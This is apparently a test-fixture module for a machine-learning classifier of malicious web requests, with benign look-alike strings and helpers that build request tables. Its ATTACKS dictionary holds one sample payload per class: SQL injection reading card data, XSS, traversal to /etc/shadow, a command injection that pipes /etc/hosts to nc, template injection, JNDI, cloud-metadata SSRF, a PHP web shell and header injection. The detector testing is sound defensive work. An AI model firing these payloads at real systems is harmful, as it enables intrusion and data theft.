"""Requests that the tests of request_attack share: an attack of each class, benign look-alikes, frames of requests."""

from __future__ import annotations

import base64
import json

import numpy as np
import pandas as pd

from weir_models.request_attack.model import RequestAttack

COLUMNS = ["method", "uri_path", "uri_query", "user_agent", "referer"]
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
ATTACKS = {"sqli": "9' AND 7=7 UNION SELECT card,cvv FROM payments-- ", "xss": '"><svg/onload=confirm(document.domain)>',
    "path_traversal": "../../../../etc/shadow", "command_injection": "8.8.8.8; cat /etc/hosts | nc 10.1.1.1 99",
    "template_injection": "{{cycler.__init__.__globals__.os.popen('id')}}", "jndi_and_deserialisation": "${jndi:rmi://lab.invalid/o}",
    "xxe_and_ssrf": "http://169.254.169.254/latest/meta-data/", "php_and_webshell": "<?php passthru($_REQUEST['k']); ?>",
    "protocol_abuse": "en\r\nSet-Cookie: admin=1"}  # fmt: skip
BENIGN = (
    "it's the cat's toy; isn't it?", 'a 24" x 36" frame', "select the best union of workers from the list", "drop off and pick up -- where?",
    "black and white or grey", "rock & roll, 'n' more", "what is 1 = 1 and why", "insert coin into slot", "SELECT committee", "O'Reilly OR O'Neill",
    "for (i = 0; i < 9; i++) { total += i; }", "def area(r): return 3 * r", "std::map<int, string> names", "<b>bold</b> and <i>italic</i>",
    json.dumps({"filter": {"age": [18, 30]}, "name": "D'Arcy", "sort": "asc"}), json.dumps([1, 2, {"a": None}]), json.dumps([["2026-11-20", 4], [7, 8]]), "1 AND 1/2\" button", "curl: (7) failed to connect", "bash prompt script", "alert script", "price lt 20 and name eq 'lamp'",
    base64.b64encode(b"the quick brown fox; or 7 lazy dogs").decode(), base64.b64encode(bytes(range(64))).decode(), "eyJhbGciOiJIUzI1NiJ9.eyJ1aWQiOjQyfQ.c2lnbmF0dXJl",
    "привет, как дела?", "東京の天気", "مرحبا بكم", "größe 42 – „neu“", "100 % cotton (machine wash)", "C:\\Users\\ana\\photo.jpg", "https://www.example.com/a?b=c&d=e", "{{first_name}}", "${campaign}",
)  # fmt: skip


def probability(model: RequestAttack, *queries: str) -> np.ndarray:
    return model.predict(requests(*queries))["attack_probability"].to_numpy()


def requests(*queries: str | None, path: str | None = "/search", agent: str | None = BROWSER) -> pd.DataFrame:
    """Requests that differ in their query alone."""
    rows = [("GET", path, query, agent, None) for query in queries]
    return pd.DataFrame(rows, columns=COLUMNS, dtype=object)


def paths(*found: str, method: str = "GET") -> pd.DataFrame:
    """Requests that differ in their path alone."""
    return pd.DataFrame([(method, path, None, BROWSER, None) for path in found], columns=COLUMNS, dtype=object)
